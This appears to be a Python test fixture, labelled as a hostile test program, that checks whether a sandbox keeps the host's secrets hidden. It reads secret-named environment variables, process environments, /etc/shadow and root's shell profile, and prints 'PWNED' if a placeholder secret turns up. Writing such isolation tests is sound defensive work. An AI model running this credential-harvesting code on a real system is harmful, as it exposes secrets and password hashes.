# ruff: noqa  (hostile test program with placeholders, not project code)
# expect: ok
# Looks everywhere for the host's secret (__SECRET_NAME__) and prints whatever it finds.
import glob
import os

found = [v for k, v in os.environ.items() if "SECRET" in k]
for path in glob.glob("/proc/*/environ") + ["/etc/environment", "/root/.bashrc", "/etc/shadow"]:
    try:
        with open(path, "rb") as f:
            data = f.read()
        if b"__SECRET_NAME__" in data:
            found.append(data.decode(errors="replace"))
    except OSError:
        pass
print("PWNED" if found else "nothing")
